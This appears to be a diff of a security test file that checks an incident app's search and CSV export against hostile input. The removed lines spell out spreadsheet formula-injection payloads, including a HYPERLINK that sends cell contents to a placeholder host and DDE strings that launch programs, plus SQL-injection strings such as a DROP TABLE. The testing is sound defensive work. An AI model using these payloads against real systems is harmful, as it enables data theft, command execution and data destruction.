@@ -7,6 +7,7 @@ import { incidentDocumentSchema } from '../src/domain/incident.js';
 import { buildApp } from '../src/server/app.js';
 import { testConfig, testKeyring } from './config.js';
 import { describeEachEngine, type TestDatabase } from './db.js';
+import { FORMULAS, RUNS_AS_FORMULA, SQL } from './hostile.js';
 import { aguaPrietaDocument } from './incidents.js';
 import { insertOrganization, insertUser, userActor } from './organizations.js';
 import { sessionHeaders } from './sessions.js';
@@ -17,9 +18,6 @@ import { sessionHeaders } from './sessions.js';
  * never another organization's incidents; formula payloads in incident fields come out of the CSV export
  * as text a spreadsheet will not run.
  */
-
-const FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"ver")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C notepad\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '\n=1+1'];
-const SQL = ["O'Brien", "'; drop table incidents; --", '" or ""="', "' OR '1'='1' --", '100% _x_ \\', '$1 $$ ::text', 'a) | !(b & c:*', '/* */ union select * from users --'];
 
 describeEachEngine('hostile text in search and exports', (getDatabase) => {
   let app: FastifyInstance;
@@ -86,7 +84,7 @@ describeEachEngine('hostile text in search and exports', (getDatabase) => {
       const rows = parse(response.body, { columns: true, relax_column_count: false }) as Record<string, string>[];
       expect(rows.length).toBe(FORMULAS.length + SQL.length);
       for (const row of rows) {
-        for (const [column, cell] of Object.entries(row)) expect(cell, `${column}: ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r\n]/);
+        for (const [column, cell] of Object.entries(row)) expect(cell, `${column}: ${JSON.stringify(cell)}`).not.toMatch(RUNS_AS_FORMULA);
       }
       const titles = rows.map((r) => Object.entries(r).find(([k]) => /title|t[ií]tulo/i.test(k))?.[1]);
       // Titles are trimmed when saved, so a leading tab or line break is gone and the = behind it is neutralised.
